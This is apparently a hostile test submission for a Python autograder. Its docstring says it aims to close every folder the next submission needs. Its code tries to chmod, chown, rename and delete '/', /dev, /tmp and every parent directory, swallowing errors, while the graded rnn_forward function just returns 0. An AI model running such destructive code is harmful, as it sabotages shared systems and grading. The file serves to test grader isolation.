"""Every folder that the next submission needs is closed, so that it finds none.

expected: right, wrong
"""

# %% rnn_forward
import os

places = ["/", "/dev", "/dev/shm", "/dev/null", "/tmp", os.environ["MPLCONFIGDIR"]]
folder = os.getcwd()
while folder != "/":
    folder = os.path.dirname(folder)
    places.append(folder)
for place in places:
    for change, arguments in (
        (os.chmod, (0,)),
        (os.chown, (-1, 12345)),
        (os.rename, (f"{place}.gone",)),
        (os.rmdir, ()),
    ):
        try:
            change(place, *arguments)
        except OSError:
            pass


def rnn_forward(x, a0, parameters):
    return 0
